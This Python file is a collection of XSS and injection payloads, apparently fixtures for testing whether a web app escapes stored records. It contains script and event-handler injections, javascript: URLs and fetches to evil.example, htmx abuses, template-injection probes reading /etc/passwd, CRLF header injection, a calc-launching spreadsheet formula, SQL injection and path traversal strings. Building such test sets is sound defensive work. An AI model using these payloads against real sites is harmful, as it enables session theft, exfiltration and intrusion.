"""What somebody may write into a record so that it runs, or fetches, in the browser of who looks at it."""

from __future__ import annotations

from itertools import product

EVIL = "http://evil.example"

_SCRIPTS = [
    "<script>ran(1)</script>",
    "<ScRiPt >ran(1)</sCrIpT>",
    "<script\n>ran(1)</script\n>",
    "<script/x>ran(1)</script>",
    "<scr<script>ipt>ran(1)</scr</script>ipt>",
    "<script>ran(1)",
    "<script>ran(1)<!--",
    f"<script src={EVIL}/x.js></script>",
    "<script src=//evil.example/x.js async></script>",
    "<script src=data:text/javascript,ran(1)></script>",
    '<script type=module>import "http://evil.example/m.js"</script>',
    "<script>ran`1`</script>",
    "<svg><script>ran(1)</script></svg>",
    "<svg><script href=data:text/javascript,ran(1) />",
    "<math><script>ran(1)</script></math>",
    "<noscript><p title='</noscript><script>ran(1)</script>'>",
]
_CLOSERS = [
    "</pre>",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "</option></select>",
    "-->",
    "]]>",
    "</template>",
]
_CLOSED = [f"{closer}<script>ran(1)</script>" for closer in _CLOSERS] + [
    f"{closer}<img src=x onerror=ran(1)>" for closer in _CLOSERS
]
_TAGS = [
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "input autofocus",
    "details open",
    "iframe",
    "object data=x",
]
_EVENTS = ["onerror", "onload", "onfocus", "ontoggle", "onloadstart", "onpointerrawupdate", "onanimationstart"]
_HANDLERS = [f"<{tag} {event}=ran(1)>" for tag, event in product(_TAGS, _EVENTS)]
_ATTRIBUTES = [
    f"{quote}{glue}{rest}"
    for quote, glue, rest in product(
        ['"', "'", "`", "&quot;", '\\"'],
        ["", " "],
        ["onmouseover=ran(1) autofocus onfocus=ran(1) x=", "><img src=x onerror=ran(1)>"],
    )
]
_ADDRESSES = [
    "javascript:ran(1)",
    "JaVaScRiPt:ran(1)",
    "java\tscript:ran(1)",
    "java\nscript:ran(1)",
    "\x01javascript:ran(1)",
    "javascript&colon;ran(1)",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+ran(1)//'>",
    "data:text/html,<script>ran(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=",
    "vbscript:ran(1)",
    "//evil.example/x",
    "\\\\evil.example\\x",
    '<a href="javascript:ran(1)" autofocus>x</a>',
    "<form action=javascript:ran(1)><button autofocus>x</button></form>",
    "[x](javascript:ran(1))",
]
_FETCHES = [
    f"<img src={EVIL}/x>",
    f"<img srcset='{EVIL}/x 1x'>",
    f"<picture><source srcset={EVIL}/x><img></picture>",
    f"<iframe src={EVIL}/x></iframe>",
    "<iframe srcdoc='<script>ran(1)</script>'></iframe>",
    f"<object data={EVIL}/x></object>",
    f"<embed src={EVIL}/x>",
    f"<video poster={EVIL}/x src={EVIL}/y autoplay></video>",
    f"<audio src={EVIL}/x autoplay></audio>",
    f"<input type=image src={EVIL}/x>",
    f"<body background={EVIL}/x>",
    f"<table background={EVIL}/x>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<link rel=prefetch href={EVIL}/x>",
    f"<link rel=preload as=image href={EVIL}/x>",
    f"<link rel=dns-prefetch href={EVIL}>",
    f"<link rel=icon href={EVIL}/x>",
    f"<style>@import url({EVIL}/x.css)</style>",
    f"<style>body{{background:url({EVIL}/x)}}</style>",
    f"<p style='background:url({EVIL}/x)'>x</p>",
    "<p style='position:fixed;inset:0;background:red'>x</p>",
    f"<svg><image href={EVIL}/x /></svg>",
    f"<svg><use href={EVIL}/x.svg#x /></svg>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    f"<base href={EVIL}/>",
    f"<form action={EVIL}><input name=x></form>",
    "<form id=csrf><input name=csrf value=x></form>",
    "<img name=getElementById><form id=ran>",
]
_HTMX = [
    f"<p hx-get='{EVIL}/x' hx-trigger=load>x</p>",
    f"<p data-hx-get='{EVIL}/x' data-hx-trigger=load>x</p>",
    "<p hx-post='/logout' hx-trigger=load>x</p>",
    "<p hx-get='/audit' hx-trigger='load[ran(1)]'>x</p>",
    "<p hx-on:htmx:load='ran(1)'>x</p>",
    "<p hx-on--load='ran(1)'>x</p>",
    "<p hx-vals='js:{x: ran(1)}' hx-get='/' hx-trigger=load>x</p>",
    "<p hx-headers='js:{x: ran(1)}' hx-get='/' hx-trigger=load>x</p>",
    f"<p hx-ext=sse sse-connect='{EVIL}/x' sse-swap=x>x</p>",
    "<p hx-ext=sse sse-connect='/operations/x/events'>x</p>",
    "<p hx-swap-oob='innerHTML:#content'>x</p>",
    "<meta name=htmx-config content='{\"allowEval\":true}'>",
]
_TEMPLATES = [
    "{{7*7}}",
    "{{ config }}",
    "{% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{constructor.constructor('ran(1)')()}}",
    "${ran(1)}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{{ran(1)}}}",
    "<!--#exec cmd=id -->",
    "<?php ran(1) ?>",
]
_ENCODINGS = [
    "+ADw-script+AD4-ran(1)+ADw-/script+AD4-",
    "\\u003cscript\\u003eran(1)\\u003c/script\\u003e",
    "%3Cscript%3Eran(1)%3C/script%3E",
    "%253Cscript%253Eran(1)%253C/script%253E",
    "&lt;script&gt;ran(1)&lt;/script&gt;",
    "&#60;script&#62;ran(1)&#60;/script&#62;",
    "&#x3c;script&#x3e;ran(1)&#x3c;/script&#x3e;",
    "<scr\x00ipt>ran(1)</scr\x00ipt>",
    "<\x00script>ran(1)</script>",
    "\uff1cscript\uff1eran(1)\uff1c/script\uff1e",
    "\ufeff<script>ran(1)</script>",
    "\u202e<script>ran(1)</script>\u202c",
    "user\u202egnp.exe",
    "admin\u200b\u200d\u2060",
    "a\u2028ran(1)//\u2029",
    "line\rran(1)\r\nset-cookie: x=1\r\n\r\n<script>ran(1)</script>",
    "\x1b[31mred\x1b[0m",
    "\x1b]52;c;cmFuKDEp\x07",
    "\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\",
    "\x7f\x80\x9b31m",
    "Z̷̢̛a̷l̸g̵o̴" * 20,
    "ran(1)\u0000" * 5,
    "🏴\U000e0067\U000e0062",
    "=cmd|' /C calc'!A0",
    "'; DROP TABLE letters; --",
    "../../../../etc/passwd",
]
_JSON = [
    '{"a": "</script><script>ran(1)</script>"}',
    '{"<img src=x onerror=ran(1)>": "<img src=x onerror=ran(1)>"}',
    '{"__proto__": {"ran": 1}, "constructor": "x"}',
    '["\\u003cimg src=x onerror=ran(1)\\u003e"]',
    '"<svg/onload=ran(1)>"',
    '{"a": "\\u202e<b>"}',
]

PAYLOADS = [
    *_SCRIPTS, *_CLOSED, *_HANDLERS, *_ATTRIBUTES, *_ADDRESSES, *_FETCHES, *_HTMX, *_TEMPLATES, *_ENCODINGS, *_JSON
]  # fmt: skip
# Where a page takes each as it takes the others: those that end what they stand in, and some of each kind.
FEW = [*_CLOSED, *(text for text in PAYLOADS[::6] if text not in _CLOSED)]
